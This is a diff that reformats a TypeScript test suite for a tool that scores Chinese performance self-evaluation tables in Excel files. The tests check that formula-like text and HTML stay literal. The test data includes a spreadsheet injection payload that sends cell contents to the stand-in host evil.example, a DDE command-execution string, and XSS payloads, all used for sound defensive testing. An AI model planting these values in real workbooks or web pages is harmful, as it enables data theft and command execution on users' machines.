@@ -27,7 +27,13 @@ const JSZip = require("jszip");
 type Cell = ExcelJS.CellValue;
 
 /** Writes a small self-evaluation table at `top`: title, project, budget, header, rows. Returns the next free row. */
-function table(ws: ExcelJS.Worksheet, top: number, project: string, rows: Cell[][], header = ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值", "偏差原因分析及改进措施"]): number {
+function table(
+  ws: ExcelJS.Worksheet,
+  top: number,
+  project: string,
+  rows: Cell[][],
+  header = ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值", "偏差原因分析及改进措施"]
+): number {
   let r = top;
   ws.getRow(r++).values = [`${project}绩效自评表`];
   ws.getRow(r++).values = ["项目名称", project];
@@ -38,7 +44,15 @@ function table(ws: ExcelJS.Worksheet, top: number, project: string, rows: Cell[]
 }
 
 // Formula-like texts a finance officer (or an attacker) may type; all must stay literal text.
-const INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-1+2", "@SUM(A1:A3)", "=cmd|' /C calc'!A0", "\t=1+1", "=1+1"];
+const INJECTIONS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
+  "+1+1",
+  "-1+2",
+  "@SUM(A1:A3)",
+  "=cmd|' /C calc'!A0",
+  "\t=1+1",
+  "=1+1",
+];
 const HTML = "<img src=x onerror=alert(1)>";
 const SCRIPT = "<script>alert('x')</script>";
 const RTL_PROJECT = "مشروع التحول الرقمي 🚀 פרויקט";
@@ -150,7 +164,14 @@ beforeAll(async () => {
   x.getRow(1).values = ["+2025年绩效自评表"];
   x.getRow(2).values = ["项目名称", INJECTIONS[0]];
   x.getRow(3).values = ["预算数", 100, "全年执行数", 95];
-  x.getRow(4).values = ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值", "偏差原因分析及改进措施"];
+  x.getRow(4).values = [
+    "一级指标",
+    "二级指标",
+    "三级指标",
+    "指标值",
+    "实际完成值",
+    "偏差原因分析及改进措施",
+  ];
   x.getRow(5).values = ["产出指标", "=数量指标", INJECTIONS[1], "=100%", "100%"];
   x.getRow(6).values = ["产出指标", "@质量", INJECTIONS[2], "≥6个", INJECTIONS[4]];
   x.getRow(7).values = ["效益指标", "-效益", INJECTIONS[3], "=1+1", "=1+1", INJECTIONS[5]];
@@ -170,7 +191,11 @@ beforeAll(async () => {
   inputHash = sha256(input);
 
   const read = await readWorkbook(input);
-  first = analyzeWorkbook(read.sheets, { ledger: read.ledger, currentYear: 2025, source: "odd.xlsx" });
+  first = analyzeWorkbook(read.sheets, {
+    ledger: read.ledger,
+    currentYear: 2025,
+    source: "odd.xlsx",
+  });
   report = first.report;
   applyPlan(read.workbook, first.plan);
   output = path.join(dir, "odd.scored.xlsx");
@@ -185,15 +210,25 @@ afterAll(() => {
 });
 
 test("every sheet's table is found and scored without a throw", () => {
-  expect(report.tables.map((t) => t.sheet).sort()).toEqual(["公式", "文本数字", "隐藏", "合并表头", "双表头", "RTL😀", "=SUM(1,2)", "<i>HTML"].sort());
+  expect(report.tables.map((t) => t.sheet).sort()).toEqual(
+    ["公式", "文本数字", "隐藏", "合并表头", "双表头", "RTL😀", "=SUM(1,2)", "<i>HTML"].sort()
+  );
 });
 
 describe("formulas and formula errors as actuals", () => {
   test("#DIV/0! and #N/A are ACTUAL_INVALID; a formula's cached number is scored", () => {
-    expect(ind("公式", "除零")).toMatchObject({ status: "invalid", score: null, actual: "#DIV/0!" });
+    expect(ind("公式", "除零")).toMatchObject({
+      status: "invalid",
+      score: null,
+      actual: "#DIV/0!",
+    });
     expect(ind("公式", "无值")).toMatchObject({ status: "invalid", score: null, actual: "#N/A" });
-    expect(issuesAt("公式", "E5").map((i) => [i.code, i.severity])).toEqual([["ACTUAL_INVALID", "error"]]);
-    expect(issuesAt("公式", "E6").map((i) => [i.code, i.severity])).toEqual([["ACTUAL_INVALID", "error"]]);
+    expect(issuesAt("公式", "E5").map((i) => [i.code, i.severity])).toEqual([
+      ["ACTUAL_INVALID", "error"],
+    ]);
+    expect(issuesAt("公式", "E6").map((i) => [i.code, i.severity])).toEqual([
+      ["ACTUAL_INVALID", "error"],
+    ]);
     expect(ind("公式", "求和")).toMatchObject({ status: "met", completion: 1.1667 });
     expect(ind("公式", "满意度")).toMatchObject({ status: "met" });
   });
@@ -273,8 +308,20 @@ describe("header layouts", () => {
       ["效益", "met"],
     ]);
     const ws = back.getWorksheet("双表头")!;
-    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(3, c).value)).toEqual(["一级指标", "二级指标", "三级指标", "指标值", "实际完成值"]);
-    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(4, c).value)).toEqual(["一级指标", "二级指标", "三级指标", "指标值", "实际完成值"]);
+    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(3, c).value)).toEqual([
+      "一级指标",
+      "二级指标",
+      "三级指标",
+      "指标值",
+      "实际完成值",
+    ]);
+    expect([1, 2, 3, 4, 5].map((c) => ws.getCell(4, c).value)).toEqual([
+      "一级指标",
+      "二级指标",
+      "三级指标",
+      "指标值",
+      "实际完成值",
+    ]);
   });
 });
 
@@ -298,7 +345,10 @@ function summaryRows(): Map<string, ExcelJS.Row> {
   ws.eachRow((row, n) => {
     if (n === 1) return;
     const v = row.getCell(2).value as ExcelJS.CellValue;
-    const text = typeof v === "object" && v !== null && "text" in v ? String((v as { text: unknown }).text) : String(v);
+    const text =
+      typeof v === "object" && v !== null && "text" in v
+        ? String((v as { text: unknown }).text)
+        : String(v);
     out.set(text, row);
   });
   return out;
@@ -307,7 +357,11 @@ function summaryRows(): Map<string, ExcelJS.Row> {
 describe("formula-like text never becomes a formula", () => {
   test("the engine reads them as text: =100% is an equal target, the rest are names and invalid actuals", () => {
     expect(tableOf("=SUM(1,2)").project).toBe(INJECTIONS[0]);
-    expect(ind("=SUM(1,2)", "+1+1")).toMatchObject({ kind: "equal", status: "met", level2: "=数量指标" });
+    expect(ind("=SUM(1,2)", "+1+1")).toMatchObject({
+      kind: "equal",
+      status: "met",
+      level2: "=数量指标",
+    });
     expect(ind("=SUM(1,2)", "-1+2")).toMatchObject({ status: "invalid", actual: INJECTIONS[4] });
     expect(ind("=SUM(1,2)", "@SUM(A1:A3)").status).not.toBe("met");
   });
@@ -334,7 +388,21 @@ describe("formula-like text never becomes a formula", () => {
     const ws = back.getWorksheet("=SUM(1,2)")!;
     expect(ws.getCell("B2").value).toBe(INJECTIONS[0]);
     expect(ws.getCell("A1").value).toBe("+2025年绩效自评表");
-    for (const addr of ["B5", "C5", "D5", "B6", "C6", "E6", "C7", "D7", "E7", "F7", "C8", "E8", "F8"]) {
+    for (const addr of [
+      "B5",
+      "C5",
+      "D5",
+      "B6",
+      "C6",
+      "E6",
+      "C7",
+      "D7",
+      "E7",
+      "F7",
+      "C8",
+      "E8",
+      "F8",
+    ]) {
       expect([addr, ws.getCell(addr).type]).toEqual([addr, ExcelJS.ValueType.String]);
     }
   });
@@ -343,7 +411,9 @@ describe("formula-like text never becomes a formula", () => {
     const countF = async (file: string): Promise<Record<string, number>> => {
       const zip = await JSZip.loadAsync(fs.readFileSync(file));
       const counts: Record<string, number> = {};
-      for (const name of Object.keys(zip.files).filter((n) => /^xl\/worksheets\/sheet\d+\.xml$/.test(n))) {
+      for (const name of Object.keys(zip.files).filter((n) =>
+        /^xl\/worksheets\/sheet\d+\.xml$/.test(n)
+      )) {
         const xml: string = await zip.file(name).async("string");
         counts[name] = (xml.match(/<f[\s>]/g) ?? []).length;
       }
@@ -377,7 +447,10 @@ describe("formula-like text never becomes a formula", () => {
   test("the JSON report (CLI --json -) carries the texts as plain JSON strings", async () => {
     let stdout = "";
     let stderr = "";
-    const code = await run(["score", input, "--json", "-", "--lang", "en"], { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
+    const code = await run(["score", input, "--json", "-", "--lang", "en"], {
+      stdout: (s) => (stdout += s),
+      stderr: (s) => (stderr += s),
+    });
     expect(stderr).toBe("");
     expect(code).toBe(1); // #DIV/0! and friends are errors
     const json = JSON.parse(stdout) as Report;
@@ -389,13 +462,19 @@ describe("formula-like text never becomes a formula", () => {
 describe("HTML in cells is kept literally", () => {
   test("report and output keep the markup as text", () => {
     expect(tableOf("<i>HTML").project).toBe(HTML);
-    expect(ind("<i>HTML", SCRIPT)).toMatchObject({ target: "≥6个", status: "invalid", actual: "<b>7</b>" });
+    expect(ind("<i>HTML", SCRIPT)).toMatchObject({
+      target: "≥6个",
+      status: "invalid",
+      actual: "<b>7</b>",
+    });
     expect(ind("<i>HTML", HTML)).toMatchObject({ target: "<i>≥6个</i>" });
     expect(ind("<i>HTML", "效益")).toMatchObject({ status: "invalid", actual: HTML });
     const ws = back.getWorksheet("<i>HTML")!;
     expect(ws.getCell("B2").value).toBe(HTML);
     expect(ws.getCell("F7").value).toBe(SCRIPT);
-    const msg = report.issues.find((i) => i.sheet === "<i>HTML" && i.code === "ACTUAL_INVALID" && i.message.includes("<img"));
+    const msg = report.issues.find(
+      (i) => i.sheet === "<i>HTML" && i.code === "ACTUAL_INVALID" && i.message.includes("<img")
+    );
     expect(msg?.message).toContain(HTML);
   });
 });
@@ -407,7 +486,8 @@ test("scoring the output again changes no cell and raises no new OUTPUT_OCCUPIED
   expect(occupied(second)).toEqual(occupied(first));
   // The same tables, with the same indicators and totals: the engine's own output (the result block beside a
   // two-row header) must not hide a table from the next run (locate-tables.ts headerOnlyUpTo).
-  const shape = (r: Report) => r.tables.map((t) => [t.sheet, t.headerRow, t.indicators.length, t.total]);
+  const shape = (r: Report) =>
+    r.tables.map((t) => [t.sheet, t.headerRow, t.indicators.length, t.total]);
   expect(shape(second.report)).toEqual(shape(report));
   expect(second.plan.summary?.writes).toEqual(first.plan.summary?.writes);
   const grids = new Map(again.sheets.map((g) => [g.name, g]));
@@ -426,13 +506,22 @@ describe("regressions found by these tests", () => {
     const t0 = Date.now();
     const r = readActual(target, { value: digits, text: digits, isDate: false });
     expect(r.status).toBe("invalid");
-    for (const t of ["作用显著", "2025年3月底前"]) readActual(parseTarget(t, { defaultYear: 2025, cost: false }), { value: digits, text: `部分达成${digits}`, isDate: false });
+    for (const t of ["作用显著", "2025年3月底前"])
+      readActual(parseTarget(t, { defaultYear: 2025, cost: false }), {
+        value: digits,
+        text: `部分达成${digits}`,
+        isDate: false,
+      });
     expect(Date.now() - t0).toBeLessThan(2_000); // was ~65 s for 200,000 digits
   });
 
   test("部分达成（75%）still picks the point inside the band after the regex change", () => {
     const q = parseTarget("作用显著", { defaultYear: 2025, cost: false });
-    expect(readActual(q, { value: "部分达成（75%）", text: "部分达成（75%）", isDate: false })).toMatchObject({ band: "部分达成", bandFraction: 0.75 });
-    expect(readActual(q, { value: "部分达成 62.5%", text: "部分达成 62.5%", isDate: false })).toMatchObject({ band: "部分达成", bandFraction: 0.625 });
+    expect(
+      readActual(q, { value: "部分达成（75%）", text: "部分达成（75%）", isDate: false })
+    ).toMatchObject({ band: "部分达成", bandFraction: 0.75 });
+    expect(
+      readActual(q, { value: "部分达成 62.5%", text: "部分达成 62.5%", isDate: false })
+    ).toMatchObject({ band: "部分达成", bandFraction: 0.625 });
   });
 });
